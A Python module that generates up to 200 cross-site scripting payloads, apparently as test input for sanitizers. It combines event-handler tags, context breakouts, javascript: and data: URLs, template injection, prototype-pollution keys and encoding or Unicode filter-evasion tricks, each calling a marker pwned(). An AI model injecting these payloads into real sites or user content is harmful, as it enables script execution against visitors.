"""Two hundred texts that would run as a script wherever text is taken for anything else."""

import re
from itertools import product

HIT = "pwned()"
"""What each of them tries to call."""

_ELEMENTS = (
    "<img src=q onerror={}>",
    "<svg/onload={}>",
    "<body onload={}>",
    "<input autofocus onfocus={}>",
    "<details open ontoggle={}><summary>s</summary></details>",
    "<video src=q onerror={}></video>",
    "<svg><animate attributeName=x dur=1s onbegin={}></svg>",
    "<style>@keyframes k{{}}</style><b style='animation:k 1s' onanimationstart={}>",
)
_OUT_OF = (
    "",
    '">',
    "'>",
    "</textarea>",
    "</title></style>",
    "-->",
    "]]>",
    "</script>",
    "`}}]);",
    "</svg>",
)
_SCRIPTS = (
    "<script>{}</script>",
    "<ScRiPt\t>{}</sCrIpT >",
    "<script/src=data:text/javascript,{}></script>",
    "<script type=module>{}</script>",
    "<iframe srcdoc='<script>parent.{}</script>'></iframe>",
    "<object data=javascript:{}></object>",
    "<math><mtext><script>{}</script></mtext></math>",
    "<template shadowrootmode=open><script>{}</script></template>",
    "<noscript><p title='</noscript><script>{}</script>'>",
)
_ADDRESSES = (
    "javascript:{}",
    "JaVaScRiPt:{}",
    "java\tscript:{}",
    "java\nscript:{}",
    "javascript://x%0a{}",
    "data:text/html,<script>{}</script>",
    "vbscript:{}",
    "blob:javascript:{}",
    "view-source:javascript:{}",
    '//q" onmouseover={} x="',
    'https://q/"onmouseover="{}',
    "https://q/' autofocus onfocus='{}",
    "https://q/>\\<img src=q onerror={}>",
    'mailto:a@b.example" onclick="{}',
)
_LINKS = ("{}", "<a href='{}'>press</a>", "[press]({})", "![x]({})", "<form action='{}'><button>")
_TEMPLATES = (
    "{{{{constructor.constructor('{0}')()}}}}",
    "${{{0}}}",
    "#{{{0}}}",
    "<%= {0} %>",
    '{{"__html":"<img src=q onerror={0}>"}}',
    '{{"type":"script","props":{{"children":"{0}"}}}}',
    "__proto__",
    "constructor",
    "';{0};'",
    '\\";{0};//',
    "\\u003cscript\\u003e{0}\\u003c/script\\u003e",
    "&lt;script&gt;{0}&lt;/script&gt;",
    "&#60;img src=q onerror={0}&#62;",
    "%3Cscript%3E{0}%3C/script%3E",
    "＜script＞{0}＜/script＞",
    "<scr<script>ipt>{0}</scr</script>ipt>",
    "<<script>{0}//<</script>",
    "<img\nsrc=q\nonerror\n=\n{0}>",
    "<a\u2028href=javascript:{0}>",
    "\u202e<img src=q onerror={0}>",
)


def payloads() -> list[str]:
    """All different, and short enough for a name."""
    elements = [out + each.format(HIT) for out, each in product(_OUT_OF, _ELEMENTS)]
    links = [link.format(each.format(HIT)) for link, each in product(_LINKS, _ADDRESSES)]
    scripts = [out + each.format(HIT) for out, each in product(_OUT_OF[:4], _SCRIPTS)]
    rest = [each.format(HIT) for each in _TEMPLATES]
    found = dict.fromkeys([*rest, *links, *scripts, *elements])
    return [each for each in found if len(each) <= 100][:200]


def on_one_line(text: str) -> str:
    """As a name may be."""
    return re.sub(r"[\t\n\u2028\u202e]", " ", text)
